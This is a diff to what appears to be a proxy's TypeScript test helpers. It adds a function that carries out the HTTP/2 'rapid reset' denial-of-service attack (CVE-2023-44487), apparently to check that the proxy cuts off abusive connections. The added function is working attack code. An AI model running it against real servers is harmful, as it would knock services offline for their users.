@@ -3,6 +3,7 @@ import { createSocket } from 'node:dgram';
 import { connect as connectHttp2, constants, type IncomingHttpHeaders } from 'node:http2';
 import { request } from 'node:http';
 import type { Socket } from 'node:net';
+import { setTimeout as wait } from 'node:timers/promises';
 import { inject } from 'vitest';
 import { httpPort, httpsPort } from './proxy-fixture.ts';
 
@@ -74,6 +75,42 @@ export function overHttp2(
       });
     stream.end(body);
   });
+}
+
+/**
+ * Opens streams and takes each back at once, on so many connections, until `signal` ends it: "rapid reset"
+ * (CVE-2023-44487). Gives how many streams were opened, and how many connections the proxy ended.
+ */
+export async function resetRapidly(
+  host: string,
+  connections: number,
+  signal: AbortSignal,
+): Promise<{ opened: number; ended: number }> {
+  const told = { opened: 0, ended: 0 };
+  const attack = async (): Promise<void> => {
+    while (!signal.aborted) {
+      const session = connectHttp2(`https://${inject('servers').m1.ip}:${httpsPort}`, {
+        servername: host,
+        rejectUnauthorized: false,
+      });
+      const gone = new Promise<void>((resolve) => {
+        session.on('error', () => undefined).on('close', resolve);
+      });
+      session.on('goaway', () => (told.ended += 1));
+      while (!session.closed && !session.destroyed && !signal.aborted) {
+        for (let count = 0; count < 100 && !session.closed && !session.destroyed; count += 1) {
+          const stream = session.request({ [constants.HTTP2_HEADER_AUTHORITY]: host, ':path': '/' });
+          stream.on('error', () => undefined).close(constants.NGHTTP2_CANCEL);
+          told.opened += 1;
+        }
+        await new Promise(setImmediate);
+      }
+      session.destroy();
+      await Promise.race([gone, wait(1000)]);
+    }
+  };
+  await Promise.all(Array.from({ length: connections }, attack));
+  return told;
 }
 
 /**
